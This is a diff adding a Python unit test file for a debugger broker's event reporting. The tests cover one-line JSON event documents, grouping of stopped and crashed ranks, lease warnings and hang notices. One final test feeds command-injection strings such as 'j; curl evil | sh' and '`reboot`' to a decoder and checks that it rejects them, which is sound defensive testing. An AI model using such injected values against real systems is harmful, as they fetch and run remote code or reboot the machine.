@@ -1,0 +1,302 @@
+"""The document of an event is one line of JSON, whatever a rank calls itself, and far smaller than a pipe takes."""
+
+from __future__ import annotations
+
+import json
+import signal
+from collections.abc import Callable
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from dbg_broker.events import event as sentences
+from dbg_broker.events import occasions
+from dbg_broker.events.event import Event, EventKind, RankSnapshot, document
+from dbg_broker.events.occasions import AGAIN_SECONDS, GATHER_SECONDS, SELDOM_SECONDS, Occasions
+from dbg_broker.ranks.rank_record import RankRecord
+from dbg_broker.timers import Timers
+from dbg_wire.codec import decode
+from dbg_wire.errors import PeerError
+from dbg_wire.messages import Hang, RankReport, Sender
+from dbg_wire.records.ranks import Place, RankState
+from dbg_wire.targets.grammar import parse_target
+from tests.conftest import Approved
+from tests.unit.broker.peers import RUNNING, STOP, WHERE, registration
+
+TEXTS = st.text(st.characters(codec=None), max_size=5000)
+
+
+def test_it_tells_what_happened_where_and_what_to_type() -> None:
+    event = Event(
+        kind=EventKind.STOP,
+        at=1760000000.12345,
+        sentence="gpu013:5 of job 4711.0 stopped",
+        job="4711.0",
+        ranks="5",
+        address="gpu013:5",
+        where=Place(file="/home/me/train.py", line=41, function="step"),
+        next="dbg-attach 4711.0/gpu013:5",
+    )
+    assert json.loads(document(event, 3)) == {
+        "schema": 1,
+        "event": "stop",
+        "at": 1760000000.123,
+        "job": "4711.0",
+        "ranks": "5",
+        "address": "gpu013:5",
+        "where": {"file": "/home/me/train.py", "line": 41, "function": "step"},
+        "sentence": "gpu013:5 of job 4711.0 stopped",
+        "next": "dbg-attach 4711.0/gpu013:5",
+        "left_out": 3,
+    }
+
+
+def test_what_does_not_apply_is_null() -> None:
+    told = json.loads(document(Event(kind=EventKind.REFUSED, at=1.0, sentence="no", address="10.0.0.7")))
+    assert [name for name, value in told.items() if value is None] == ["job", "ranks", "where", "next"]
+
+
+@given(TEXTS, TEXTS, TEXTS)
+def test_hostile_texts_stay_on_one_line_and_can_not_act_on_a_terminal(sentence: str, job: str, name: str) -> None:
+    where = Place(file=name, line=1, function=name)
+    event = Event(kind=EventKind.CRASH, at=1.0, sentence=sentence, job=job, ranks=job, address=job, where=where)
+    line = document(event)
+    assert line.count(b"\n") == 1
+    assert line.endswith(b"\n")
+    assert len(line) < 60_000
+    told = json.loads(line)
+    assert told["sentence"].isprintable()
+    assert (told["job"] or "").isprintable()
+    assert all(told["where"][part].isprintable() for part in ("file", "function")) if told["where"] else not name
+
+
+def test_a_broker_of_a_cluster_says_which_one_it_is() -> None:
+    told = json.loads(document(Event(kind=EventKind.REFUSED, at=1.0, sentence="no", broker="host-7-ab")))
+    assert told["broker"] == "host-7-ab"
+
+
+HANG = Hang(job="4711.0", kind="missing", sentence="rank 3 is missing", ranks="3")
+
+
+class Clock:
+    """A clock that a test moves on, with what is due by it."""
+
+    def __init__(self) -> None:
+        self.now = 1000.0
+        self.due: list[tuple[float, Callable[[], None]]] = []
+
+    def schedule(self, delay: float, call: Callable[[], None]) -> None:
+        self.due.append((self.now + delay, call))
+
+    def pass_by(self, span: float) -> None:
+        self.now += span
+        due, self.due = (
+            [call for at, call in self.due if at <= self.now],
+            [one for one in self.due if one[0] > self.now],
+        )
+        for call in due:
+            call()
+
+
+class Broker:
+    """Occasions with a clock, and the events that were told."""
+
+    def __init__(self) -> None:
+        self.clock, self.told = Clock(), list[Event]()
+        clock = self.clock
+        self.occasions = Occasions(self.told.append, Timers(lambda: clock.now, clock.schedule, wall=lambda: clock.now))
+
+    def see(self, *ranks: RankRecord) -> None:
+        for rank in ranks:
+            self.occasions.rank_changed(rank)
+
+    def news(self, span: float = GATHER_SECONDS) -> list[Event]:
+        self.clock.pass_by(span)
+        told = list(self.told)
+        self.told.clear()
+        return told
+
+
+@pytest.fixture
+def broker() -> Broker:
+    return Broker()
+
+
+def record(number: int = 0, report: RankReport = RUNNING, state: RankState | None = None, **said: object) -> RankRecord:
+    registered = registration(number, report=report, **said)
+    return RankRecord(
+        registration=registered, report=report, state=state or report.state, child=None, since=0, heard=0, entered=0
+    )
+
+
+def stopped(number: int = 0, *, run: str = "0.0", **stop: object) -> RankRecord:
+    return record(number, RankReport(state=RankState.STOPPED, stop=STOP.replace(**stop)), run=run)
+
+
+def ended(number: int, status: int, cause: str = "") -> RankRecord:
+    rank = record(number, state=RankState.EXITED)
+    rank.end.exit, rank.end.cause, rank.end.detail = status, cause, "ValueError: bad"
+    return rank
+
+
+def test_ranks_that_stop_together_are_one_event(broker: Broker) -> None:
+    broker.see(*(stopped(number) for number in range(1000)))
+    (event,) = broker.news()
+    assert (event.kind, event.job, event.ranks, event.where) == (EventKind.STOP, "4711.0", "0-999", WHERE)
+    place = "/home/me/train.py:41 in step"
+    assert event.sentence == f"gpu013:0 of job 4711.0 stopped at {place}, and 999 other ranks"
+    assert event.next == "dbg-attach 4711.0/gpu013:0"
+
+
+def test_only_the_first_stop_of_a_run_is_told(broker: Broker) -> None:
+    broker.see(stopped())
+    assert len(broker.news()) == 1
+    broker.see(record(), stopped(number=0), stopped(1))
+    assert broker.news(AGAIN_SECONDS * 2) == []
+    broker.see(stopped(run="1.0"))
+    assert [event.kind for event in broker.news()] == [EventKind.STOP]
+
+
+def test_held_ranks_and_those_that_a_user_broke_into_are_no_news(broker: Broker) -> None:
+    held = RankReport(state=RankState.HELD, stop=STOP.replace(reason="hold"))
+    broker.see(record(0, held), stopped(1, reason="interrupt"), record(2))
+    assert broker.news() == []
+
+
+def test_a_kept_crash_is_told_with_its_error_and_not_again_at_its_end(broker: Broker) -> None:
+    detail = "ValueError: bad; SLURM ends the job in 9 min"
+    broker.see(stopped(3, reason="crash", detail=detail, limit="SLURM ends the job in 9 min"))
+    (event,) = broker.news()
+    assert event.kind is EventKind.CRASH
+    assert event.sentence == "gpu013:3 of job 4711.0 crashed at /home/me/train.py:41 in step: ValueError: bad"
+    assert event.next == "dbg-attach 4711.0/gpu013:3"
+    broker.see(ended(3, 1))
+    assert broker.news(AGAIN_SECONDS * 2) == []
+
+
+def test_ranks_that_a_launcher_ended_afterwards_are_not_told(broker: Broker) -> None:
+    first, other = ended(0, 1), ended(1, -signal.SIGKILL)
+    broker.see(other, first, ended(2, -signal.SIGTERM), ended(3, 0))
+    other.end.cause = "likely from its launcher"
+    (event,) = broker.news()
+    assert (event.ranks, event.sentence) == ("0", "gpu013:0 of job 4711.0 ended with status 1: ValueError: bad")
+
+
+def test_further_crashes_of_a_run_are_gathered_for_longer(broker: Broker) -> None:
+    broker.see(ended(0, -signal.SIGSEGV))
+    (event,) = broker.news()
+    assert "was killed by SIGSEGV" in event.sentence
+    broker.see(ended(1, 1))
+    assert broker.news(AGAIN_SECONDS / 2) == []
+    broker.see(ended(2, 1))
+    assert [event.ranks for event in broker.news(AGAIN_SECONDS)] == ["1-2"]
+
+
+def test_a_lease_is_told_once_before_it_ends_and_anew_if_it_was_extended(broker: Broker) -> None:
+    assert broker.news() == []
+    broker.see(stopped(run="r", lease=28800.0, lease_seconds=400.0))
+    assert [event.kind for event in broker.news()] == [EventKind.STOP]
+    soon = stopped(run="r", lease=28800.0, lease_seconds=299.0)
+    broker.see(soon, soon)
+    (event,) = broker.news()
+    assert (event.kind, event.sentence) == (EventKind.LEASE, "gpu013:0 of job 4711.0 goes on by itself in 5 min")
+    broker.see(soon)
+    assert broker.news(AGAIN_SECONDS * 2) == []
+    broker.see(stopped(run="r", lease=28800.0, lease_seconds=28800.0), soon)
+    assert [event.kind for event in broker.news(AGAIN_SECONDS)] == [EventKind.LEASE]
+
+
+def test_a_short_lease_is_told_a_tenth_before_its_end(broker: Broker) -> None:
+    broker.see(stopped(lease=600.0, lease_seconds=61.0))
+    broker.see(stopped(1, lease=600.0, lease_seconds=60.0))
+    assert {event.kind: event.ranks for event in broker.news()} == {EventKind.STOP: "0-1", EventKind.LEASE: "1"}
+
+
+def test_the_same_hang_is_told_once(broker: Broker) -> None:
+    broker.occasions.hang(HANG)
+    broker.occasions.hang(HANG.replace(sentence="rank 3 is missing, for 4 min"))
+    (event,) = broker.news(0)
+    assert (event.sentence, event.ranks, event.next) == (
+        "job 4711.0 hangs: rank 3 is missing",
+        "3",
+        "dbg-attach why 4711.0/all",
+    )
+    broker.occasions.hang(HANG.replace(ranks="4"))
+    broker.clock.pass_by(SELDOM_SECONDS)
+    broker.occasions.hang(HANG)
+    assert [event.ranks for event in broker.news()] == ["4", "3"]
+
+
+def test_refusals_are_told_once_for_each_host_and_a_scan_hides_no_hang(broker: Broker) -> None:
+    for number in range(100):
+        broker.occasions.refused(f"10.0.0.{number}", "the token is wrong\n")
+        broker.occasions.refused(f"10.0.0.{number}", "the token is wrong\n")
+    broker.occasions.hang(HANG)
+    told = broker.news(0)
+    assert [event.kind for event in told] == [EventKind.REFUSED] * occasions.MAX_SELDOM + [EventKind.HANG]
+    assert told[0].sentence == "a request from 10.0.0.0 was refused: the token is wrong"
+
+
+def test_what_is_known_of_runs_and_leases_is_bounded(broker: Broker) -> None:
+    for number in range(occasions.MAX_RUNS + 50):
+        broker.see(stopped(run=str(number), lease=10.0, lease_seconds=0.5))
+    assert len(broker.occasions._runs) == occasions.MAX_RUNS
+    broker.occasions.forget(registration().identity.key)
+    assert broker.occasions._leases == {}
+
+
+def test_of_several_brokers_one_tells_what_happens_to_a_run(broker: Broker) -> None:
+    broker.occasions.broker = "one"
+    broker.occasions.speaks_for = lambda run: run == "other/0.0"
+    stopped = RUNNING.replace(state=RankState.STOPPED, stop=STOP)
+    broker.see(record(0, stopped), record(1, stopped, job="other"))
+    told = broker.news()
+    assert [(one.job, one.broker) for one in told] == [("other", "one")]
+
+
+def test_nothing_is_kept_of_a_rank_that_is_no_longer_listed(broker: Broker) -> None:
+    for number in range(100):
+        rank = stopped(number, reason="crash")
+        broker.see(rank, rank)
+        broker.occasions.forget(rank.key)
+    assert not broker.occasions._crashed
+    assert len(broker.news()) == 1
+
+
+def test_a_stock_debugger_that_names_no_place_is_told_without_one() -> None:
+    seen = [RankSnapshot(stopped(number, where=Place(file="", line=0, function=""))) for number in range(2)]
+    event = sentences.of_ranks(EventKind.STOP, seen, 1.0)
+    assert event.sentence == "gpu013:0 of job 4711.0 stopped, and 1 other rank"
+
+
+@pytest.mark.parametrize(
+    ("left", "shown"), [(28800.0, "480 min"), (119.4, "119 s"), (120.0, "2 min"), (0.0, "0 s"), (None, "0 s")]
+)
+def test_the_time_left_is_told_in_minutes_or_seconds(approved: Approved, left: float | None, shown: str) -> None:
+    event = sentences.of_ranks(EventKind.LEASE, [RankSnapshot(stopped(lease=28800.0, lease_seconds=left))], 1.0)
+    approved(event.sentence)
+
+
+def test_a_rank_that_is_gone_names_the_list_as_next_step_and_its_signal(approved: Approved) -> None:
+    event = sentences.of_ranks(EventKind.CRASH, [RankSnapshot(ended(0, -50))], 1.0)
+    approved(event.sentence)
+    assert event.next == "dbg-attach list --all"
+
+
+@pytest.mark.parametrize(
+    ("says", "begins"), [("", "job j hangs: no"), ("a driver (bob)", "job j hangs, as a driver (bob) says: no")]
+)
+def test_what_to_type_at_a_hang_comes_from_the_broker(says: str, begins: str) -> None:
+    event = sentences.hang(Hang(job="j", kind="unknown", sentence="no cause is seen"), says, 1.0)
+    assert event.sentence.startswith(begins)
+    assert event.next == "dbg-attach why j/all"
+    assert [term.job for term in parse_target("j/all").include] == ["j"]
+
+
+@pytest.mark.parametrize("changes", [{"job": "j; curl evil | sh"}, {"ranks": "`reboot`"}, {"job": ""}])
+def test_a_verdict_can_not_make_up_what_to_type(changes: dict[str, str]) -> None:
+    said = {"type": "hang", "job": "j", "kind": "missing", "sentence": "rank 3 is missing", "ranks": "3"}
+    assert not hasattr(decode(json.dumps({**said, "next": "reboot"}), Sender.CLIENT), "next")
+    with pytest.raises(PeerError):
+        decode(json.dumps({**said, **changes}), Sender.CLIENT)
